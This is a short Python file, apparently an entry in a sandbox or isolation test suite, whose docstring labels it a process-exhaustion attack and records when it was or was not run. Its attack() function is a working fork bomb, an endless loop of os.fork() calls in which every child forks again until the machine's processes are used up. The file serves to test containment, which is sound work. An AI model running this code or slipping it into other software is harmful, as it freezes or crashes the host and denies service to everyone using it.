"""Forks for ever, in every child.

kind: exhaust
says: processes
strong: holds
partial: not run: as an ordinary user it would use up that user's processes
none: not run: it would use up this machine's processes
never returns.
"""

import os


def attack():
    while True:
        os.fork()
